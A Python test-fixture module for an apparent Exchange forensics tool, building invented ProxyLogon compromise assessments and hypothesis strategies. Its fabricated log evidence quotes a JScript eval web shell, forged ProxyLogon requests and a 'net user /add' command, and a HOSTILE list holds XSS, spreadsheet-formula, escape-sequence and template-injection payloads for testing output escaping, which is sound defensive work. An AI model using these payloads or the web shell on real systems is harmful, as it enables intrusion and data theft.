"""Assessments to test with: a compromise, a fleet, hostile text, and hypothesis strategies.

Everything is invented: hosts end in `.example`, addresses are from the documentation ranges.
"""

from __future__ import annotations

import hashlib
from dataclasses import replace
from datetime import UTC, datetime, timedelta

from hypothesis import strategies as st

from alpheus.model import (
    Assessment,
    Build,
    BuildWitness,
    Campaign,
    Citation,
    Confidence,
    Coverage,
    CveState,
    Evidence,
    Finding,
    Gap,
    NextStep,
    PackVersion,
    PatchState,
    Run,
    ServerAssessment,
    Skipped,
    Stage,
    StoryStep,
    TimeBasis,
    Verdict,
    Weight,
)

ATTACKER = "203.0.113.77"
SHELL_KEY = "Zk81qQpL"
CANARY = "kPq3-aa9Z_0.tt8R1x2yLmN4"
HOSTILE = (
    "<script>alert(1)</script>",
    "</style></pre><img src=x onerror=alert(1)>",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b2J",
    "=cmd|'/C calc'!A0",
    "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
    "A" * 4000,
    "user\u202egnp.exe\u2066\u200b",
    "`` ` ``` code break ``` <b>x</b> | [a](javascript:alert(1))",
    "[bold red]markup[/bold red] [link=http://x.example]y[/link]",
    "{{ 7*7 }} {% raw %} %s {0}",
    "\x00\ud800\ufeff\u2028\u2029line\nnext\r\nlast",
    "日本語 عربى עברית 🙂",
)  # fmt: skip


def at(text: str) -> datetime:
    """Return a time in UTC from `2021-03-03 06:59:20`."""
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


def _digest(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def cite(path: str, text: str, line: int | None = None, **place: int) -> Citation:
    """Return a citation in the package `ev1` with a made-up hash of its file."""
    return Citation(
        "ev1", path, line=line, text=text, sha256=_digest(path),
        offset=place.get("offset"), record_id=place.get("record_id"),
    )  # fmt: skip


_FRONT = "uploads/auto/C%3A/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log"
_PROXY = (
    "uploads/auto/C%3A/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Ecp/"
    "HttpProxy_2021030306-1.LOG"
)
_ECP = (
    "uploads/auto/C%3A/Program Files/Microsoft/Exchange Server/V15/Logging/ECP/Server/"
    "ECPServer20210303-1.LOG"
)
_PAGE = (
    "uploads/auto/C%3A/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/"
    "supp0rt.aspx"
)
_SECURITY = "uploads/auto/C%3A/Windows/System32/winevt/Logs/Security.evtx"


def _proxy_row(time: str, number: int, anchor: str, status: int) -> str:
    return (
        f"2021-03-03T{time}Z,5e8c1f0e-0000-4000-8000-{number:012d},15,1,2106,2,,Ecp,"
        f"mail.contoso.example,/ecp/y.js,,FBA,true,NT AUTHORITY\\SYSTEM,,{anchor},"
        f"python-requests/2.25.1,{ATTACKER},EX01,{status},{status},,POST,Proxy,"
        "ex01.contoso.example,15.01.2106.000,IntraForest,X-BEResource-Cookie,,,,512,1734"
    )


def _finding(
    rule: str, title: str, stage: Stage, time: str | None, *citations: Citation, **more: object
) -> Finding:
    values: dict[str, object] = {
        "pack": "proxylogon", "weight": Weight.INDICATION, "confidence": Confidence.HIGH,
        "cves": ("CVE-2021-26855",), "techniques": ("T1190",), "clients": (ATTACKER,),
        "citations_total": len(citations), **more,
    }  # fmt: skip
    return Finding(
        rule=rule, title=title, stage=stage, time=at(time) if time else None,
        citations=citations, **values,  # type: ignore[arg-type]
    )  # fmt: skip


def _early_findings() -> tuple[Finding, ...]:
    shell = 'http://f/<script language=""JScript"" runat=""server"">function Page_Load()'
    return (
        _finding(
            "proxylogon-probe-localhost", "Version of the server was looked up from outside",
            Stage.PROBED, "2021-02-28 11:12:41.120",
            cite(_FRONT, "2021-02-28 11:12:41 10.1.4.20 GET /owa/auth/x.js - 443 - 198.51.100.9 "
                 "Mozilla/5.0+zgrab/0.x - 500 0 0 15", 1181),
            weight=Weight.CONTEXT, confidence=Confidence.MEDIUM, clients=("198.51.100.9",),
        ),
        _finding(
            "proxylogon-forged-request", "Forged request reached the Exchange control panel",
            Stage.EXPLOITED, "2021-03-03 06:59:20.359",
            cite(_PROXY, _proxy_row("06:59:20.359", 1, "ServerInfo~a]@ex01.contoso.example:444/"
                 "autodiscover/autodiscover.xml?#", 200), 412),
            detail="The request was answered with the account's identity (1,734 bytes).",
        ),
        _finding(
            "proxylogon-session", "A session was forged: proxyLogon.ecp answered 241",
            Stage.EXPLOITED, "2021-03-03 06:59:23.031",
            cite(_PROXY, _proxy_row("06:59:23.031", 2, "ServerInfo~a]@ex01.contoso.example:444/"
                 "ecp/proxyLogon.ecp?#", 241), 415),
            weight=Weight.PROOF, cves=("CVE-2021-26855",),
        ),
        _finding(
            "proxylogon-setobject", "Settings of the offline address book were changed and reset",
            Stage.IMPLANTED, "2021-03-03 06:59:31.544",
            cite(_PROXY, _proxy_row("06:59:31.544", 3, "ServerInfo~a]@ex01.contoso.example:444/"
                 f"ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={CANARY}"
                 "&schema=ResetOABVirtualDirectory#", 200), 421),
            cite(_ECP, "2021-03-03T06:59:31.544Z,EX01,ECP.Request,'S:CMD=Set-OabVirtualDirectory."
                 f"ExternalUrl=''{shell}{{eval(Request[\"\"{SHELL_KEY}\"\"],\"\"unsafe\"\");}}"
                 "</script>''.Identity=''OAB (Default Web Site)'''", 88),
            weight=Weight.PROOF, cves=("CVE-2021-27065",), techniques=("T1505.003",),
        ),
    )  # fmt: skip


def _late_findings() -> tuple[Finding, ...]:
    return (
        _finding(
            "foreign-page", "A server page that no Exchange build ships, with code in a setting",
            Stage.IMPLANTED, "2021-03-03 06:59:33",
            cite(_PAGE, f'ExternalUrl : http://f/<script language="JScript" runat="server">function'
                 f' Page_Load(){{eval(Request["{SHELL_KEY}"],"unsafe");}}</script>', offset=1642),
            weight=Weight.PROOF, cves=("CVE-2021-27065",), techniques=("T1505.003",), clients=(),
        ),
        _finding(
            "webshell-access", "The page that does not belong was called and answered 200",
            Stage.OPERATED, "2021-03-03 07:02:11",
            *(cite(_FRONT, f"2021-03-03 07:{2 + n // 20:02d}:{11 + n % 20:02d} 10.1.4.20 POST "
                   f"/owa/auth/supp0rt.aspx {SHELL_KEY}=Response.Write(1)&CorrelationID=<empty>;&"
                   f"cafeReqId=cde28fc4-0000-4000-8000-{n:012d}; 443 - {ATTACKER} "
                   "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64) - 200 0 0 133", 20413 + n)
              for n in range(100)),
            weight=Weight.PROOF, citations_total=342, last=at("2021-03-09 21:40:05"),
            techniques=("T1505.003", "T1059"), pack="iis-webshell", cves=(),
        ),
        _finding(
            "w3wp-child", "The web server started a command shell", Stage.OPERATED,
            "2021-03-03 07:03:02.017",
            cite(_SECURITY, '{"EventID": 4688, "ParentProcessName": "C:\\\\Windows\\\\System32\\\\'
                 'inetsrv\\\\w3wp.exe", "CommandLine": "cmd.exe /c whoami & net user svc_sql '
                 'Wint3r!2021x /add"}', record_id=918273),
            weight=Weight.PROOF, pack="iis-webshell", cves=(), techniques=("T1059.003", "T1136"),
            clients=(),
        ),
        _finding(
            "lsass-dump", "Memory of the logon process was written to a file", Stage.SPREAD,
            "2021-03-04 02:17:45",
            cite("uploads/auto/C%3A/$Extend/$UsnJrnl%3A$J", "\\ProgramData\\lsass.dmp FILE_CREATE",
                 offset=88_211_456),
            confidence=Confidence.MEDIUM, cves=(), techniques=("T1003.001",), clients=(),
        ),
        _finding(
            "mail-read-ews", "Mail was read through the hole: forged requests to EWS, answered 200",
            Stage.SPREAD, "2021-03-05 01:30:12",
            *(cite(_PROXY.replace("Ecp", "Ews"), _proxy_row("01:30:12.000", n, "ServerInfo~a]@"
                   "ex01.contoso.example:444/EWS/Exchange.asmx?a=~#", 200), 77 + n)
              for n in range(5)),
            weight=Weight.PROOF, techniques=("T1114.002",), last=at("2021-03-05 03:12:00"),
            detail="48.2 MiB in 214 answers; mailboxes: j.meier@contoso.example, "
                   "board@contoso.example.", citations_total=214,
        ),
        _finding(
            "defender-detection", "Defender found a web shell and removed it", Stage.IMPLANTED,
            "2021-03-09 21:52:30",
            cite(_SECURITY.replace("Security", "Defender"), "Exploit:Script/Exmann.A!dha "
                 "file:_C:\\inetpub\\wwwroot\\aspnet_client\\supp0rt.aspx", record_id=4402),
            pack="iis-webshell", cves=(), techniques=(), clients=(),
        ),
        _finding(
            "account-created", "An account was created", Stage.OPERATED, "2021-03-12 08:00:00",
            cite(_SECURITY, '{"EventID": 4720, "TargetUserName": "n.keller"}', record_id=921_001),
            weight=Weight.CONTEXT, confidence=Confidence.LOW, pack="iis-webshell", cves=(),
            techniques=("T1136",), clients=(),
        ),
        _finding(
            "compiled-page", "A compiled page whose source is gone", Stage.IMPLANTED, None,
            cite("uploads/auto/C%3A/Windows/Microsoft.NET/Framework64/v4.0.30319/"
                 "Temporary ASP.NET Files/owa/8e05b027/e164d61b/errorFF.aspx.cdcab7d2.compiled",
                 '<preserve resultType="3" virtualPath="/owa/auth/errorFF.aspx"/>'),
            confidence=Confidence.MEDIUM, pack="iis-webshell", cves=(), clients=(),
        ),
    )  # fmt: skip


def days(first: str, count: int, missing: range = range(0), rows: int = 40_000) -> dict[str, int]:
    """Return rows per day from a first day on, without the days numbered in `missing`."""
    start = at(first)
    return {
        (start + timedelta(days=number)).date().isoformat(): rows + 97 * (number % 7)
        for number in range(count)
        if number not in missing
    }


def coverage(
    source: str, first: str, count: int, missing: range = range(0), **more: object
) -> Coverage:
    """Return the coverage of a source over so many days, with one gap for the missing ones."""
    counts = days(first, count, missing, int(str(more.pop("rows", 40_000))))
    start = at(first)
    gaps = ()
    if missing:
        gaps = (Gap(start + timedelta(days=missing.start), start + timedelta(days=missing.stop)),)
    values: dict[str, object] = {
        "files": count, "skipped": 0, "time_basis": TimeBasis.UTC, "deciding": False,
        "covers_window": not missing, **more,
    }  # fmt: skip
    return Coverage(
        source=source, rows=sum(counts.values()), first=start,
        last=start + timedelta(days=count, seconds=-14), gaps=gaps, days=counts,
        **values,  # type: ignore[arg-type]
    )  # fmt: skip


_WINDOW = {"window_from": at("2021-02-26 00:00:00"), "window_to": at("2021-03-20 00:00:00")}


def compromised_server() -> ServerAssessment:
    """A server with a web shell that was used, patched too late, with a gap in one log."""
    witness = BuildWitness(
        "httpproxy", "15.1.2106.2", "EX01", at("2021-01-29 00:00:07"), at("2021-03-08 19:58:11")
    )
    later = BuildWitness(
        "httpproxy", "15.1.2106.13", "EX01", at("2021-03-08 20:41:30"), at("2021-03-29 23:59:46")
    )
    fixed = CveState(
        PatchState.FIXED,
        "Build 15.1.2106.13 has the fix since 2021-03-08 20:41:30, five days after the foothold.",
    )
    return ServerAssessment(
        name="EX01.contoso.example",
        aliases=("EX01", "mail.contoso.example"),
        product="Microsoft Exchange Server 2016 CU18",
        build=Build("15.1.2106.13", 4, (later, witness)),
        cves={
            "CVE-2021-26855": fixed,
            "CVE-2021-26857": CveState(
                PatchState.MITIGATED, "Unified messaging was stopped; web.config, 2021-03-04."
            ),
            "CVE-2021-27065": fixed,
            "CVE-2021-34473": CveState(
                PatchState.VULNERABLE, "Build 15.1.2106.13 is older than the fix of April 2021."
            ),
            "CVE-2022-41040": CveState(
                PatchState.UNDETERMINED,
                "Needs the rewrite rules of the front end: collect applicationHost.config.",
            ),
        },
        verdict=Verdict.COMPROMISED,
        stage=Stage.SPREAD,
        confidence=Confidence.HIGH,
        headline=(
            "An attacker from 203.0.113.77 forged a session on 2021-03-03 at 06:59 UTC, placed a "
            "web shell, used it until 2021-03-09 and read mail of two mailboxes; the patch came "
            "five days after the foothold."
        ),
        campaigns=(
            Campaign(
                "proxylogon", **_WINDOW, verdict=Verdict.COMPROMISED, stage=Stage.SPREAD,
                assessed=True, why="A forged session changed a setting, and mail was read.",
            ),
            Campaign(
                "iis-webshell", None, None, Verdict.COMPROMISED, Stage.OPERATED, assessed=True,
                why="A page that no build ships was called and answered.",
            ),
            Campaign(
                "proxyshell", at("2021-08-06 00:00:00"), at("2021-09-30 00:00:00"),
                Verdict.NOT_DETERMINABLE, Stage.NONE, assessed=False,
                why="The evidence ends before its window begins.",
            ),
        ),
        findings=(*_early_findings(), *_late_findings()),
        story=(
            StoryStep(at("2021-02-28 11:12:41"), Stage.PROBED,
                      "198.51.100.9 looked up the version.", ("proxylogon-probe-localhost",)),
            StoryStep(at("2021-03-03 06:59:20"), Stage.EXPLOITED,
                      "203.0.113.77 sent a forged request and was answered as the computer.",
                      ("proxylogon-forged-request", "proxylogon-session")),
            StoryStep(at("2021-03-03 06:59:31"), Stage.IMPLANTED,
                      "It wrote a web shell to owa/auth/supp0rt.aspx by resetting the offline "
                      "address book.", ("proxylogon-setobject", "foreign-page")),
            StoryStep(at("2021-03-03 07:02:11"), Stage.OPERATED,
                      "It used the shell 342 times until 2021-03-09 and created an account.",
                      ("webshell-access", "w3wp-child")),
            StoryStep(at("2021-03-04 02:17:45"), Stage.SPREAD,
                      "Credentials were dumped; mail of two mailboxes was read from 2021-03-05.",
                      ("lsass-dump", "mail-read-ews")),
        ),
        coverage=(
            coverage("iis-site-1", "2021-01-29", 60, deciding=True),
            coverage("httpproxy", "2021-01-29", 60, range(34, 37), deciding=True, skipped=3),
            coverage("ecp-server", "2021-01-29", 60, deciding=True, rows=900),
            coverage("iis-site-2", "2021-02-12", 46, rows=61_000),
            coverage("msexchange-management", "2021-02-20", 38, deciding=True, rows=210,
                     covers_window=True),
            coverage("windows-security", "2021-03-01", 18, rows=180_000, covers_window=False),
            coverage("oabgenerator", "2021-01-29", 60, range(10, 31), rows=4),
            coverage("iis-native", "2021-02-01", 12, rows=300, time_basis=TimeBasis.UNKNOWN,
                     covers_window=False),
        ),
        next_steps=(
            NextStep(1, "Take EX01 off the network, and keep it running for a memory image.",
                     "The shell was used until 2021-03-09; other entry points are not excluded."),
            NextStep(1, "Reset the password of every account that logged on since 2021-03-03, "
                     "krbtgt twice.", "The memory of the logon process was dumped."),
            NextStep(2, "Remove owa/auth/supp0rt.aspx and the account svc_sql.",
                     "Both were placed by the attacker."),
            NextStep(2, "Tell the owners of the two mailboxes.", "Their mail was read."),
            NextStep(3, "Install the current security update.", "CVE-2021-34473 is open."),
        ),
    )  # fmt: skip


def quiet_server(
    name: str, verdict: Verdict, stage: Stage, headline: str, *findings: Finding
) -> ServerAssessment:
    """A server with little to say."""
    short = verdict is Verdict.NOT_DETERMINABLE
    first = "2021-03-20" if short else "2021-02-10"
    return ServerAssessment(
        name=name, aliases=(), product="Microsoft Exchange Server 2013", build=None,
        cves={"CVE-2021-26855": CveState(PatchState.UNDETERMINED, "No record names a build.")},
        verdict=verdict, stage=stage, confidence=Confidence.MEDIUM, headline=headline,
        campaigns=(
            Campaign("proxylogon", **_WINDOW, verdict=verdict, stage=stage, assessed=True,
                     why="The front end's logs begin on 2021-03-20, after the window."
                     if short else "The deciding sources cover the window."),
        ),
        findings=findings, story=(),
        coverage=(
            coverage("iis-site-1", first, 40, deciding=True, covers_window=not short),
            coverage("ecp-server", first, 40, deciding=True, covers_window=not short),
        ),
        next_steps=(NextStep(3, "Collect the logs from before 2021-03-20.", "They decide."),)
        if short else (),
    )  # fmt: skip


def assessment(*servers: ServerAssessment) -> Assessment:
    """An assessment of servers, with two packages and a few losses."""
    return Assessment(
        run=Run(
            at("2021-04-02 08:00:00"), at("2021-04-02 08:03:41.250"), "1.0.0",
            (PackVersion("proxylogon", "1.0.0"), PackVersion("iis-webshell", "1.0.0")),
            2_040_109_465, 4_211,
        ),
        evidence=(
            Evidence("ev1", "Collection-EX01-2021-04-01.zip", _digest("zip"), 611_202_331),
            Evidence("ev2", "copied-logs", None, 1_428_907_134),
        ),
        servers=servers,
        skipped=(
            Skipped("ev1", _PROXY, 5_812_004, "row does not parse: 3 of 74 columns", 3),
            Skipped("ev1", "uploads/auto/C%3A/Windows/System32/winevt/Logs/System.evtx", 69_632,
                    "damaged chunk: wrong checksum"),
            Skipped("ev2", "W3SVC1/old.7z", None, "encrypted, and no password was given"),
        ),
    )  # fmt: skip


def compromised() -> Assessment:
    """One compromised server."""
    return assessment(compromised_server())


def fleet() -> Assessment:
    """Five servers with the five verdicts, in an order that is not that of urgency."""
    tried = replace(_early_findings()[1], stage=Stage.ATTEMPTED, title="Forged request, refused")
    odd = replace(_late_findings()[7], time=at("2021-03-06 10:00:00"))
    return assessment(
        quiet_server("ex-clean.contoso.example", Verdict.NO_EVIDENCE, Stage.NONE,
                     "No evidence of compromise; the logs cover 2021-02-26 to 2021-03-20."),
        quiet_server("EX-SHORT.contoso.example", Verdict.NOT_DETERMINABLE, Stage.NONE,
                     "Cannot be said: the logs begin on 2021-03-20, after the window."),
        compromised_server(),
        quiet_server("ex-tried.contoso.example", Verdict.ATTEMPTED, Stage.ATTEMPTED,
                     "Exploitation was tried on 2021-03-03 and failed.", tried),
        quiet_server("ex-odd.contoso.example", Verdict.SUSPICIOUS, Stage.IMPLANTED,
                     "A compiled page without a source needs a look.", odd),
    )  # fmt: skip


def hostile() -> Assessment:
    """A server in which every text that can come from evidence is hostile."""
    citations = tuple(
        Citation("ev1", text[:200], line=number + 1, text=text)
        for number, text in enumerate(HOSTILE * 7)
    )[:100]
    findings = tuple(
        Finding(
            rule=f"rule-{number}", pack="proxylogon", title=text, stage=Stage.OPERATED,
            weight=Weight.PROOF, confidence=Confidence.HIGH, time=at("2021-03-03 07:00:00"),
            citations=citations if number == 0 else citations[number : number + 1],
            citations_total=100_000 if number == 0 else 1, detail=text, clients=(text[:60],),
        )
        for number, text in enumerate(HOSTILE)
    )  # fmt: skip
    servers = []
    for number, text in enumerate(HOSTILE):
        server = quiet_server(text[:300], Verdict.SUSPICIOUS, Stage.OPERATED, text)
        servers.append(
            replace(
                server,
                aliases=(text[:50],),
                product=text[:50],
                findings=findings if number == 0 else (),
                story=(StoryStep(None, Stage.OPERATED, text, ("rule-0",)),),
                next_steps=(NextStep(1, text, text),),
            )
        )
    base = assessment(*servers)
    return replace(
        base,
        evidence=(Evidence("ev1", HOSTILE[0], None, 0),),
        skipped=tuple(Skipped("ev1", text[:100], 0, text) for text in HOSTILE),
    )


# Strategies ------------------------------------------------------------------------------------

times = st.datetimes(
    min_value=datetime(1601, 1, 1),  # noqa: DTZ001 (hypothesis adds the zone)
    max_value=datetime(9999, 12, 31),  # noqa: DTZ001
    timezones=st.just(UTC),
)
maybe_times = st.none() | times
texts = st.text(max_size=60) | st.sampled_from(HOSTILE)
names = st.text("abcdefghijklmnopqrstuvwxyz0123456789.-_", min_size=1, max_size=20)
counts = st.integers(0, 10**12)


@st.composite
def citations(draw: st.DrawFn) -> Citation:
    """Any citation with at most one place."""
    place = draw(st.sampled_from(("line", "offset", "record_id", None)))
    return Citation(
        evidence=draw(names), path=draw(texts), text=draw(texts),
        sha256=draw(st.none() | names.map(_digest)),
        line=draw(st.integers(1, 10**9)) if place == "line" else None,
        offset=draw(counts) if place == "offset" else None,
        record_id=draw(counts) if place == "record_id" else None,
    )  # fmt: skip


@st.composite
def findings(draw: st.DrawFn) -> Finding:
    """Any finding."""
    cited = tuple(draw(st.lists(citations(), max_size=3)))
    return Finding(
        rule=draw(names), pack=draw(names), title=draw(texts),
        stage=draw(st.sampled_from(Stage)), weight=draw(st.sampled_from(Weight)),
        confidence=draw(st.sampled_from(Confidence)), time=draw(maybe_times),
        cves=tuple(draw(st.lists(names, max_size=2))),
        techniques=tuple(draw(st.lists(names, max_size=2))),
        citations=cited, citations_total=len(cited) + draw(st.integers(0, 1000)),
        last=draw(maybe_times), detail=draw(texts),
        clients=tuple(draw(st.lists(texts, max_size=2))),
    )  # fmt: skip


@st.composite
def coverages(draw: st.DrawFn) -> Coverage:
    """Any coverage; its gaps and days need not fit its times."""
    ends = sorted((draw(times), draw(times)))
    known = draw(st.booleans())
    gaps = tuple(Gap(*sorted(pair)) for pair in draw(st.lists(st.tuples(times, times), max_size=2)))
    return Coverage(
        source=draw(names), files=draw(counts), rows=draw(counts), skipped=draw(counts),
        first=ends[0] if known else None, last=ends[1] if known else None,
        time_basis=draw(st.sampled_from(TimeBasis)), gaps=gaps, deciding=draw(st.booleans()),
        covers_window=draw(st.booleans()),
        days={day.date().isoformat(): n for day, n in draw(
            st.dictionaries(times, st.integers(0, 10**6), max_size=4)).items()},
    )  # fmt: skip


builds = st.builds(
    Build,
    value=names,
    precision=st.sampled_from((3, 4)),
    witnesses=st.lists(
        st.builds(BuildWitness, names, names, st.none() | names, maybe_times, maybe_times),
        max_size=2,
    ).map(tuple),
)
campaigns = st.builds(
    Campaign, names, maybe_times, maybe_times, st.sampled_from(Verdict), st.sampled_from(Stage),
    st.booleans(), texts,
)  # fmt: skip


@st.composite
def servers(draw: st.DrawFn) -> ServerAssessment:
    """Any server; its parts need not agree with each other."""
    return ServerAssessment(
        name=draw(texts), aliases=tuple(draw(st.lists(texts, max_size=2))), product=draw(texts),
        build=draw(st.none() | builds),
        cves=draw(st.dictionaries(
            names, st.builds(CveState, st.sampled_from(PatchState), texts), max_size=3)),
        verdict=draw(st.sampled_from(Verdict)), stage=draw(st.sampled_from(Stage)),
        confidence=draw(st.sampled_from(Confidence)), headline=draw(texts),
        campaigns=tuple(draw(st.lists(campaigns, max_size=2))),
        findings=tuple(draw(st.lists(findings(), max_size=4))),
        story=tuple(draw(st.lists(st.builds(
            StoryStep, maybe_times, st.sampled_from(Stage), texts,
            st.lists(names, max_size=2).map(tuple)), max_size=2))),
        coverage=tuple(draw(st.lists(coverages(), max_size=3))),
        next_steps=tuple(draw(st.lists(
            st.builds(NextStep, st.integers(1, 9), texts, texts), max_size=4))),
    )  # fmt: skip


@st.composite
def assessments(draw: st.DrawFn, max_servers: int = 2) -> Assessment:
    """Any assessment, with hostile text wherever evidence can put it."""
    packs = st.lists(st.builds(PackVersion, names, names), max_size=2).map(tuple)
    packages = st.builds(Evidence, names, texts, st.none() | names.map(_digest), counts)
    losses = st.builds(Skipped, names, texts, st.none() | counts, texts, st.integers(1, 10**6))
    return Assessment(
        run=draw(st.builds(Run, times, times, names, packs, counts, counts)),
        evidence=tuple(draw(st.lists(packages, max_size=2))),
        servers=tuple(draw(st.lists(servers(), max_size=max_servers))),
        skipped=tuple(draw(st.lists(losses, max_size=2))),
    )
